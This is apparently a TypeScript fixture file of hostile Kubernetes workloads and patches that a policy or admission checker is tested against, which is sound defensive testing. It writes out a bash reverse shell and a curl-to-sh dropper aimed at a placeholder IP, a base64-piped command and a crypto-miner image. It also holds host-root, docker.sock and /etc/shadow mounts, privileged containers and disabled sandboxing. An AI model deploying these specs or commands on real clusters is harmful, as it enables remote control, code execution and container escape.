import { each, env, hostPath, jsonPatch, patch, type Scenario, secured, shell, spec, workload } from "./scenario.ts";

const privileged = spec({}, secured({ privileged: true }));
const BASH = shell("bash -i >& /dev/tcp/192.0.2.7/4444 0>&1");
const DROPPER = shell("curl -s http://192.0.2.7/x.sh | sh");
const KINDS = [
  "deployments",
  "daemonsets",
  "statefulsets",
  "replicasets",
  "replicationcontrollers",
  "jobs",
  "cronjobs",
];

const perKind = each(
  "workload",
  Object.fromEntries(
    KINDS.flatMap((kind) => [
      [`privileged-${kind}`, workload(kind, privileged)],
      [`shell-${kind}`, workload(kind, spec({}, BASH))],
      [`system-${kind}`, workload(kind, spec(), "kube-system")],
    ]),
  ),
);

const templates = each("workload", {
  "host-pid": workload("daemonsets", spec({ hostPID: true })),
  "host-network": workload("deployments", spec({ hostNetwork: true })),
  "host-ipc": workload("deployments", spec({ hostIPC: true })),
  "path-root": workload("deployments", spec(hostPath("/"))),
  "path-docker": workload("daemonsets", spec(hostPath("/var/run/docker.sock"))),
  "path-shadow": workload("jobs", spec(hostPath("/etc/shadow"))),
  "path-mem": workload("deployments", spec(hostPath("/dev/mem"))),
  capability: workload("cronjobs", spec({}, secured({ capabilities: { add: ["SYS_PTRACE"] } }))),
  "capability-lower": workload("deployments", spec({}, secured({ capabilities: { add: ["net_admin"] } }))),
  "seccomp-off": workload("jobs", spec(secured({ seccompProfile: { type: "Unconfined" } }))),
  "apparmor-off": workload("deployments", spec({}, secured({ appArmorProfile: { type: "Unconfined" } }))),
  "selinux-off": workload("deployments", spec({}, secured({ seLinuxOptions: { type: "spc_t" } }))),
  "dropper-cronjob": workload("cronjobs", spec({}, DROPPER)),
  "dropper-init": workload("deployments", spec({ initContainers: [{ name: "i", image: "busybox", ...DROPPER }] })),
  "base64-cronjob": workload("cronjobs", spec({}, shell("echo aWQ7aWQ7aWQ7aWQ7aWQ= | base64 --decode | bash"))),
  miner: workload("deployments", spec({}, { args: ["--url", "stratum+ssl://pool.example.com:443"] })),
  "key-environment": workload("deployments", spec({}, env("CONF", `ghp_${"a1B2".repeat(9)}`))),
  "password-environment": workload("statefulsets", spec({}, env("POSTGRES_PASSWORD", "hunter2hunter2"))),
  "control-plane": workload(
    "deployments",
    spec({ tolerations: [{ key: "node-role.kubernetes.io/control-plane", operator: "Exists" }] }),
  ),
});

/** Changes of a deployment that was harmless before. */
const before = { ...workload("deployments", spec()) };
const changed = (name: string, request: ReturnType<typeof patch>): Scenario => ({
  id: `workload-changed-${name}`,
  requests: [request],
  before: [before],
});
const container = "/spec/template/spec/containers/0";
const strategic = (fields: object) =>
  patch(
    "deployments",
    "shop",
    "$ID",
    { spec: { template: { spec: fields } } },
    "application/strategic-merge-patch+json",
  );

const changes: readonly Scenario[] = [
  changed("privileged-strategic", strategic({ containers: [{ name: "web", securityContext: { privileged: true } }] })),
  changed("privileged-merge", patch("deployments", "shop", "$ID", { spec: { template: { spec: privileged } } })),
  changed(
    "privileged-json",
    jsonPatch("deployments", "shop", "$ID", {
      op: "add",
      path: `${container}/securityContext`,
      value: { privileged: true },
    }),
  ),
  changed(
    "shell-json",
    jsonPatch("deployments", "shop", "$ID", { op: "add", path: `${container}/command`, value: BASH.command }),
  ),
  changed(
    "capability-json",
    jsonPatch("deployments", "shop", "$ID", {
      op: "add",
      path: `${container}/securityContext`,
      value: { capabilities: { add: ["SYS_ADMIN"] } },
    }),
  ),
  changed(
    "host-pid-json",
    jsonPatch("deployments", "shop", "$ID", { op: "add", path: "/spec/template/spec/hostPID", value: true }),
  ),
  changed(
    "path-json",
    jsonPatch("deployments", "shop", "$ID", {
      op: "add",
      path: "/spec/template/spec/volumes",
      value: [{ name: "v", hostPath: { path: "/etc" } }],
    }),
  ),
  changed("host-network-strategic", strategic({ hostNetwork: true })),
  changed("image-miner", strategic({ containers: [{ name: "web", image: "docker.io/someone/xmrig" }] })),
];

export const hostileWorkloads: readonly Scenario[] = [...perKind, ...templates, ...changes];
